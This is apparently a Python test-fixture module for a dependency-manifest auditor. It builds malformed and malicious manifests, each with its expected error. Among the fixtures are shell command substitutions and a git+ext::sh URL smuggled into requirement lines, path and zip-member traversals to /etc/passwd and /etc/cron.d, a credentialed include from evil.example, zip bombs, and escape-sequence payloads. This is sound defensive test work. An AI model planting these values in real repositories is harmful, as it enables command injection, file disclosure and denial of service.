"""Broken and malicious manifests, one service each, and what is to be said of them.

Real ones fail in these ways by accident (a merge marker, an editor's encoding); the rest is what
somebody could plant in a repository that is going to be audited.
"""

from __future__ import annotations

import io
import os
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

Maker = Callable[[Path], None]
"""Writes the manifests of a service into its folder."""

HUGE = "1" * 5000
PROJECT = b'[project]\nname = "x"\nversion = "1"\n'
ESCAPES = "\x1b[31mred\x1b]8;;https://evil.example\x07[bold]<script>alert(1)</script>\u202e"


@dataclass(frozen=True)
class Hostile:
    """``make`` writes it; ``reason`` is said of ``place`` (file and line, relative to the service)."""

    make: Maker
    place: str
    reason: str


def files(**contents: bytes) -> Maker:
    """Files by name, ``_dot_`` for ``.`` and ``_dash_`` for ``-``."""

    def make(folder: Path) -> None:
        for name, content in contents.items():
            (folder / name.replace("_dot_", ".").replace("_dash_", "-")).write_bytes(content)

    return make


def requirements(content: bytes) -> Maker:
    return files(requirements_dot_txt=content)


def pyproject(content: bytes) -> Maker:
    return files(pyproject_dot_toml=content)


def locked(name: str, content: bytes) -> Maker:
    """A sound project with a lock that is not."""

    def make(folder: Path) -> None:
        (folder / "pyproject.toml").write_bytes(PROJECT)
        (folder / name).write_bytes(content)

    return make


def fifo(folder: Path) -> None:
    os.mkfifo(folder / "requirements.txt")


def link(target: str, name: str = "requirements.txt") -> Maker:
    return lambda folder: (folder / name).symlink_to(target)


def unreadable(folder: Path) -> None:
    (folder / "requirements.txt").write_text("flask\n")
    (folder / "requirements.txt").chmod(0)


def chain(folder: Path) -> None:
    (folder / "requirements.txt").write_text("-r 0.txt\n")
    for number in range(60):
        (folder / f"{number}.txt").write_text(f"-r {number + 1}.txt\n")
    (folder / "60.txt").write_text("flask\n")


def archive(name: str, *members: tuple[str, bytes]) -> Maker:
    def make(folder: Path) -> None:
        with zipfile.ZipFile(folder / name, "w", zipfile.ZIP_DEFLATED) as target:
            for member, content in members:
                target.writestr(member, content)

    return make


def overlapping(folder: Path) -> None:
    """A directory of many members that all point to the same compressed bytes."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
        target.writestr("a-1.dist-info/METADATA", b"0" * 3_000_000)
    content = buffer.getvalue()
    start = content.index(b"PK\x01\x02")
    entry, end = content[start : content.index(b"PK\x05\x06")], bytearray(content[-22:])
    entries = b"".join(entry.replace(b"a-1.", b"%c-%c." % (97 + n // 26, 97 + n % 26)) for n in range(400))
    end[8:12] = (400).to_bytes(2, "little") * 2
    end[12:16] = len(entries).to_bytes(4, "little")
    (folder / "app.pyz").write_bytes(content[:start] + entries + bytes(end))


def wheelhouse(folder: Path) -> None:
    (folder / "requirements.txt").write_text("flask\n")
    (folder / "wheelhouse").mkdir()
    (folder / "wheelhouse" / "flask-2.3.0-py3-none-any.whl").write_bytes(b"PK\x03\x04 and then nothing")


def nested(opening: bytes, closing: bytes, depth: int = 100_000) -> bytes:
    return opening * depth + closing * depth


UV_HEAD = b'version = 1\nrequires-python = ">=3.9"\n'
POETRY_TAIL = b'\n[metadata]\nlock-version = "2.1"\npython-versions = ">=3.9"\ncontent-hash = "0"\n'
POETRY_ENTRY = b'[[package]]\nname = 3\nversion = "1"\ngroups = ["main"]\n'
PIPFILE_HEAD = b'{"_meta": {"pipfile-spec": 6}, "default": '
UV_ENTRY = b"""
[[package]]
name = "x"
version = "1"
source = { editable = "." }
dependencies = [{ name = "y" }]

[[package]]
name = "y"
version = "%s"
source = { registry = "https://index.example/simple" }
"""
METADATA = b"Metadata-Version: 2.1\nName: a\nVersion: 1\n"

HOSTILE: dict[str, Hostile] = {
    "req-merge": Hostile(
        requirements(b"flask\n<<<<<<< HEAD\nflask>=1\n=======\nflask>=1.0\n>>>>>>> b\n"),
        "requirements.txt:2",
        "is no PEP 508 requirement",
    ),
    "req-latin1": Hostile(
        requirements(b"flask>=2\n# caf\xe9\n"),
        "requirements.txt:2",
        "is not UTF-8 (byte 0xe9)",
    ),
    "req-binary": Hostile(
        requirements(bytes(range(256)) * 20),
        "requirements.txt:2",
        "is not UTF-8 (byte 0x80)",
    ),
    "req-nul": Hostile(
        requirements(b"flask\ndja\0ngo\n"),
        "requirements.txt:2",
        "holds a NUL byte",
    ),
    "req-include-self": Hostile(
        requirements(b"-r requirements.txt\nflask\n"),
        "requirements.txt:1",
        "includes itself",
    ),
    "req-cycle": Hostile(
        files(requirements_dot_txt=b"-r other.txt\n", other_dot_txt=b"flask\n-r requirements.txt\n"),
        "other.txt:2",
        "includes itself",
    ),
    "req-missing": Hostile(
        requirements(b"flask\n-r gone/base.txt\n"),
        "requirements.txt:2",
        "does not exist",
    ),
    "req-outside": Hostile(
        requirements(b"flask\n\n-r ../../../../../etc/passwd\n"),
        "requirements.txt:3",
        "leads out of the audited folder",
    ),
    "req-absolute": Hostile(
        requirements(b"-c /etc/passwd\nflask\n"),
        "requirements.txt:1",
        "is an absolute path",
    ),
    "req-url-include": Hostile(
        requirements(b"-r https://u:p@evil.example/x.txt?token=abc\nflask\n"),
        "requirements.txt:1",
        "is included from a URL, which is not fetched",
    ),
    "req-huge-version": Hostile(
        requirements(b"flask\ndjango==" + HUGE.encode() + b"\n"),
        "requirements.txt:2",
        "holds a number of more than 640 digits",
    ),
    "req-name": Hostile(
        requirements(b"fl" + b"a" * 100000 + b"\n"),
        "requirements.txt:1",
        "is longer than 65536 characters",
    ),
    "req-20mb": Hostile(
        requirements(b"flask==" + b"1" * 20_000_000),
        "requirements.txt",
        "is larger than 16777216 bytes",
    ),
    "req-escapes": Hostile(
        requirements(ESCAPES.encode() + b"\nflask\n"),
        "requirements.txt:1",
        "is no PEP 508 requirement",
    ),
    "req-deep-marker": Hostile(
        requirements(b"flask; " + nested(b"(", b")", 3000) + b"\n"),
        "requirements.txt:1",
        "cannot be parsed",
    ),
    "req-huge-marker": Hostile(
        requirements(b"flask; python_version < '" + HUGE.encode() + b"'\n"),
        "requirements.txt:1",
        "holds a number of more than 640 digits",
    ),
    "req-shell": Hostile(
        requirements(b"flask; $(touch /tmp/x)\n`id`\n"),
        "requirements.txt:1",
        "is no PEP 508 requirement",
    ),
    "req-option": Hostile(
        requirements(b"--frobnicate=1\nflask\n"),
        "requirements.txt:1",
        "has options that pip refuses",
    ),
    "req-env": Hostile(
        requirements(b"flask==${VERSION}\n"),
        "requirements.txt:1",
        "depends on the environment variable VERSION",
    ),
    "req-scheme": Hostile(
        requirements(b"x @ gopher://evil.example/x.tar.gz\nflask\n"),
        "requirements.txt:1",
        "the scheme gopher is not supported",
    ),
    "req-ext": Hostile(
        requirements(b"x @ git+ext::sh -c touch% /tmp/x\n"),
        "requirements.txt:1",
        "the scheme git+ext is not supported",
    ),
    "req-chain": Hostile(
        chain,
        "48.txt:1",
        "is included over more than 50 files",
    ),
    "req-continuation": Hostile(
        requirements(b"flask \\\n" * 20000),
        "requirements.txt:1",
        "is longer than 65536 characters",
    ),
    "req-fifo": Hostile(
        fifo,
        "requirements.txt",
        "is no regular file",
    ),
    "req-device": Hostile(
        link("/dev/zero"),
        "requirements.txt",
        "leads out of the audited folder",
    ),
    "req-loop": Hostile(
        link("requirements.txt"),
        "requirements.txt",
        "cannot be followed",
    ),
    "req-passwd": Hostile(
        link("/etc/passwd"),
        "requirements.txt",
        "leads out of the audited folder",
    ),
    "pp-syntax": Hostile(
        pyproject(b'[project]\nname = "x"\ndependencies = ["flask"\n'),
        "pyproject.toml:3",
        "is no valid TOML",
    ),
    "pp-type": Hostile(
        pyproject(b'[project]\nname = "x"\ndependencies = {flask = 1}\n'),
        "pyproject.toml:3",
        "is a table, not a list",
    ),
    "pp-entry-types": Hostile(
        pyproject(b'[project]\nname = "x"\ndependencies = [1, ["flask"], "django"]\n'),
        "pyproject.toml:3",
        "is an integer, not a string",
    ),
    "pp-table": Hostile(
        pyproject(b"project = 3\n"),
        "pyproject.toml:1",
        "is an integer, not a table",
    ),
    "pp-array": Hostile(
        pyproject(b'[[project]]\nname = "x"\n'),
        "pyproject.toml:1",
        "is a list, not a table",
    ),
    "pp-deep": Hostile(
        pyproject(PROJECT + b"x = " + nested(b"[", b"]")),
        "pyproject.toml",
        "is nested too deeply",
    ),
    "pp-dotted": Hostile(
        pyproject(PROJECT + b".".join([b"a"] * 40000) + b" = 1\n"),
        "pyproject.toml",
        "is nested too deeply",
    ),
    "pp-python": Hostile(
        pyproject(PROJECT + b'requires-python = ">=' + HUGE.encode() + b'"\n'),
        "pyproject.toml:4",
        "is no PEP 440 specifier set",
    ),
    "pp-int": Hostile(
        pyproject(PROJECT + b"x = " + HUGE.encode() + b"\n"),
        "pyproject.toml:4",
        "holds a number that is too long",
    ),
    "pp-latin": Hostile(
        pyproject(b'[project]\nname = "caf\xe9"\n'),
        "pyproject.toml:2",
        "is not UTF-8 (byte 0xe9)",
    ),
    "pp-poetry": Hostile(
        pyproject(
            b'[tool.poetry]\nname = "x"\n[tool.poetry.dependencies]\nflask = {version = ["2"]}\ndjango = "^^4"\n'
        ),
        "pyproject.toml:5",
        "is no Poetry constraint",
    ),
    "pp-uv": Hostile(
        pyproject(PROJECT + b'dependencies = ["flask"]\n[tool.uv.sources]\nflask = 7\n'),
        "pyproject.toml:6",
        "is an integer, not a table",
    ),
    "setupcfg": Hostile(
        files(setup_dot_cfg=b"[options]\ninstall_requires =\n  flask\n[options\n"),
        "setup.cfg:4",
        "has a line that is neither an option nor a [section]",
    ),
    "setupcfg-escape": Hostile(
        files(setup_dot_cfg=b"[options]\ninstall_requires = file: ../../../../../etc/passwd\n"),
        "setup.cfg:2",
        "leads out of the audited folder",
    ),
    "setuppy": Hostile(
        files(setup_dot_py=b"from setuptools import setup\nsetup(" + nested(b"(", b")") + b")\n"),
        "setup.py",
        "is a program and is not run",
    ),
    "pipfile": Hostile(
        files(Pipfile=b"[packages\nflask = '*'\n"),
        "Pipfile:1",
        "is no valid TOML",
    ),
    "pipfile-type": Hostile(
        files(Pipfile=b"[packages]\nflask = [1]\n"),
        "Pipfile:2",
        "is a list, not a string or a table",
    ),
    "pipfilelock": Hostile(
        files(Pipfile=b"[packages]\n", Pipfile_dot_lock=b'{"default": {"flask": {"version": "==2"\n'),
        "Pipfile.lock:2",
        "is no valid JSON",
    ),
    "pipfilelock-deep": Hostile(
        files(Pipfile_dot_lock=nested(b"[", b"]")),
        "Pipfile.lock",
        "is nested too deeply",
    ),
    "pipfilelock-int": Hostile(
        files(Pipfile_dot_lock=PIPFILE_HEAD + b'{"flask": {"version": ' + HUGE.encode() + b"}}}"),
        "Pipfile.lock",
        "holds a number that is too long",
    ),
    "pipfilelock-type": Hostile(
        files(Pipfile_dot_lock=PIPFILE_HEAD + b'["flask"]}'),
        "Pipfile.lock",
        "default is of the wrong type",
    ),
    "uvlock": Hostile(
        locked("uv.lock", b"version = 1\n[[package]\n"),
        "uv.lock:2",
        "is no valid TOML",
    ),
    "uvlock-9": Hostile(
        locked("uv.lock", b"version = 9\n"),
        "uv.lock:1",
        "is no uv.lock of version 1",
    ),
    "uvlock-type": Hostile(
        locked("uv.lock", b"version = 1\npackage = 3\n"),
        "uv.lock:2",
        "is an integer, not a list",
    ),
    "uvlock-version": Hostile(
        locked("uv.lock", UV_HEAD + UV_ENTRY % HUGE.encode()),
        "uv.lock:10",
        "holds a version that is none",
    ),
    "uvlock-utf": Hostile(
        locked("uv.lock", b"version = 1\n# \xe9\n"),
        "uv.lock:2",
        "is not UTF-8 (byte 0xe9)",
    ),
    "poetrylock": Hostile(
        files(poetry_dot_lock=POETRY_ENTRY + POETRY_TAIL),
        "poetry.lock:2",
        "is an integer, not a string",
    ),
    "poetrylock-none": Hostile(
        files(poetry_dot_lock=b"<<<<<<< HEAD\n"),
        "poetry.lock:1",
        "is no valid TOML",
    ),
    "pdmlock": Hostile(
        files(pdm_dot_lock=b'[metadata]\nlock_version = "9"\n'),
        "pdm.lock:2",
        "is no pdm.lock of version 4",
    ),
    "pylock": Hostile(
        files(pylock_dot_toml=b'lock-version = "1.0"\npackages = "no"\n'),
        "pylock.toml",
        "is no valid pylock file",
    ),
    "pylock-huge-version": Hostile(
        files(
            pylock_dot_toml=b'lock-version = "1.0"\ncreated-by = "x"\n[[packages]]\nname = "flask"\nversion = "'
            + HUGE.encode()
            + b'"\n'
        ),
        "pylock.toml:3",
        "is no valid pylock file",
    ),
    "pex": Hostile(
        files(app_dot_pex=b"#!/usr/bin/env python\nno archive\n"),
        "app.pex",
        "ends in the middle of a member",
    ),
    "pyz-bomb": Hostile(
        archive("app.pyz", ("a-1.dist-info/METADATA", b"0" * 200_000_000)),
        "app.pyz!a-1.dist-info/METADATA",
        "is larger than 4194304 bytes",
    ),
    "pyz-overlap": Hostile(
        overlapping,
        "app.pyz",
        "has members that overlap",
    ),
    "pyz-escape": Hostile(
        archive("app.pyz", ("../../etc/cron.d/x", b"x"), ("a-1.dist-info/METADATA", METADATA)),
        "app.pyz!../../etc/cron.d/x",
        "leads out of the archive",
    ),
    "wheelhouse": Hostile(
        wheelhouse,
        "wheelhouse/flask-2.3.0-py3-none-any.whl",
        "is a damaged archive",
    ),
}

if os.geteuid() != 0:
    # No permission keeps the superuser from reading.
    HOSTILE["req-unreadable"] = Hostile(unreadable, "requirements.txt", "cannot be read: Permission denied")
